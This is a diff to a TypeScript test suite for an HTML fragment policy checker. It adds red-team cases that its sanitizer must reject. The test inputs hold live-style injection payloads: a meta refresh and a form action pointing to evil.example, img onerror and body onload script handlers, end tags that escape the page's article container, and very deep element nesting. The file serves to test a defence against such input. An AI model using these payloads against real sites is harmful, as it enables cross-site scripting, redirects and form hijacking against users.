@@ -12,7 +12,7 @@ const EMBEDS = { embeds: ["https://www.youtube-nocookie.com"] };
 /** `offset needle rule message`, for compact assertions. */
 const brief = (problems: PolicyProblem[]) =>
   problems.map((p) => `${p.offset} ${p.needle} ${p.rule} ${p.message}`);
-const messages = (html: string, context = "div") =>
+const messages = (html: string, context: string | readonly string[] = "div") =>
   fragmentProblems(html, context, EMBEDS).map((p) => p.message);
 
 const ONERROR = 'Attribute "onerror" is not allowed: event handlers would run script';
@@ -153,7 +153,7 @@ describe("a fragment must leave the parser as it found it", () => {
   it.each([
     ["x <textarea>", "<textarea> is not closed: it would swallow the rest of the page", 2],
     ["<!-- x", "A comment (<!--) is not closed: it would swallow the rest of the page", 0],
-    ["<select><option>a", "<select> is not closed: it would swallow the rest of the page", 0],
+    ["<ol><li>a", "<ol> is not closed: it would swallow the rest of the page", 0],
     ['<div title="x', "The tag <div> is not closed: it would swallow the rest of the page", 0],
     ["<p><b>x", "<b> is not closed: it would swallow the rest of the page", 3],
     ["<svg><path>", "<path> is not closed: it would swallow the rest of the page", 5],
@@ -176,7 +176,10 @@ describe("a fragment must leave the parser as it found it", () => {
   });
 
   it("parses in the context element; an end tag the page implies is not missing", () => {
-    expect(messages("<td>a</td>", "span")).toEqual([]);
+    // A cell outside a table is dropped by every parser: reported, as every drop is.
+    expect(messages("<td>a</td>", "span")).toEqual([
+      "The tag <td> is not allowed here: the parser drops it, but a browser may keep it",
+    ]);
     expect(messages("<li>a", "li")).toEqual([]);
     expect(messages("<ul><li><p>a")).toEqual([
       "<ul> is not closed: it would swallow the rest of the page",
@@ -255,5 +258,118 @@ describe("a context path: where the HTML really lands", () => {
     expect(fragmentProblems("Elhage <i>et al.</i>, 2022, p. 4", IN_LINK)).toEqual([]);
     // In a <span> alone, as the citation's text used to be checked, none of it shows.
     expect(fragmentProblems('Elhage <a href="/x">2022</a>', "span")).toEqual([]);
+  });
+});
+
+describe("what parse5 drops but a browser may keep (red-team F1)", () => {
+  const SELECT =
+    "unsafe-html Element <select> is not allowed: browsers disagree about what it may hold, so it cannot be checked";
+  const dropped = (name: string) =>
+    `unsafe-html The tag <${name}> is not allowed here: the parser drops it, but a browser may keep it`;
+
+  it.each([
+    [
+      '<select><meta http-equiv="refresh" content="0;url=https://evil.example/"></select>',
+      [`0 <select ${SELECT}`, `8 <meta ${dropped("meta")}`],
+    ],
+    [
+      '<select><form action="https://evil.example/c"></select><input name="x">',
+      [`0 <select ${SELECT}`, `8 <form ${dropped("form")}`],
+    ],
+    [
+      "<select><button><img src=x onerror=alert(1)></button></select>",
+      [`0 <select ${SELECT}`, `8 <button ${dropped("button")}`, `16 <img ${dropped("img")}`],
+    ],
+    [
+      "Before <select><plaintext></select> after",
+      [`7 <select ${SELECT}`, `15 <plaintext ${dropped("plaintext")}`],
+    ],
+  ])("refuses %s", (html, expected) => {
+    expect(brief(fragmentProblems(html, "div"))).toEqual(expected);
+  });
+
+  it("refuses <datalist> and <selectedcontent> as <select>", () => {
+    expect(messages("<datalist><option>x</option></datalist>")).toEqual([
+      "Element <datalist> is not allowed: browsers disagree about what it may hold, so it cannot be checked",
+    ]);
+    expect(messages("<selectedcontent></selectedcontent>")).toEqual([
+      "Element <selectedcontent> is not allowed: browsers disagree about what it may hold, so it cannot be checked",
+    ]);
+  });
+
+  it("reports any other start tag the tree builder drops, at the tag", () => {
+    expect(brief(fragmentProblems("<form><form action=x>", "div"))).toEqual([
+      "0 <form unclosed-html <form> is not closed: it would swallow the rest of the page",
+      `6 <form ${dropped("form")}`,
+    ]);
+    expect(brief(fragmentProblems("a <tr> b", "div"))).toEqual([`2 <tr ${dropped("tr")}`]);
+  });
+
+  it("refuses a <body> or <html> with attributes, which a browser gives to the page's own", () => {
+    expect(messages('<body onload="alert(1)">x')).toEqual([
+      "A <body> tag with attributes is not allowed here: a browser would give them to the page's own <body>",
+    ]);
+    expect(messages('<html lang="fr">x')).toEqual([
+      "A <html> tag with attributes is not allowed here: a browser would give them to the page's own <html>",
+    ]);
+  });
+
+  it("lets a bare <html>, <head> or <body>, which change nothing, pass", () => {
+    expect(messages("<html><head></head><body><p>x</p></body></html>")).toEqual([]);
+  });
+
+  it("keeps what browsers and parse5 agree on: formatting elements reopened, <image>, tables", () => {
+    expect(
+      messages("<b><p>x</b>y</p><image src=a.png><table><td>c</table><svg><circle/></svg>"),
+    ).toEqual([]);
+  });
+});
+
+describe("a fragment checked where the page places it (red-team F2)", () => {
+  const BODY = ["body", "main", "article", "div.article-body"];
+
+  it("reports an end tag that closes the article, naming what it closes", () => {
+    expect(brief(fragmentProblems("Text </div></article></div></main><h1>OUT</h1>", BODY))).toEqual(
+      [
+        "34 <h1 unclosed-html This closes the <main> the HTML is placed in: what follows it would be outside",
+      ],
+    );
+    expect(brief(fragmentProblems("Text </div>after", BODY))).toEqual([
+      '5 </di unclosed-html This closes the <div class="article-body"> the HTML is placed in: what follows it would be outside',
+    ]);
+    expect(messages("Text </article><p>x</p>", BODY)).toEqual([
+      "This closes the <article> the HTML is placed in: what follows it would be outside",
+    ]);
+  });
+
+  it("reports the same from a glossary definition in its <dd>", () => {
+    expect(messages("a </dd><dd>b", ["body", "dl", "div", "dd"])).toEqual([
+      "This closes the <dd> the HTML is placed in: what follows it would be outside",
+    ]);
+  });
+
+  it("lets HTML that stays inside pass", () => {
+    expect(messages("<div><p>a</p></div><aside>n</aside></p>", BODY)).toEqual([]);
+  });
+});
+
+describe("HTML nested deeper than a recursion could walk (red-team F3)", () => {
+  const TOO_DEEP =
+    "unsafe-html HTML nested more than 256 elements deep is not allowed: browsers build such a tree differently";
+
+  it("reports 10,000 nested <div>s once, at the first too deep", () => {
+    const html = "<div>".repeat(10_000) + "x" + "</div>".repeat(10_000);
+    expect(brief(fragmentProblems(html, "div"))).toEqual([`1280 <div ${TOO_DEEP}`]);
+  });
+
+  it("reports 50,000 nested <span>s, and that they are left open", () => {
+    expect(brief(fragmentProblems("<span>".repeat(50_000) + "x", "div"))).toEqual([
+      `1536 <span ${TOO_DEEP}`,
+      "299994 <span unclosed-html <span> is not closed: it would swallow the rest of the page",
+    ]);
+  });
+
+  it("lets 256 levels pass", () => {
+    expect(messages("<div>".repeat(256) + "x" + "</div>".repeat(256))).toEqual([]);
   });
 });
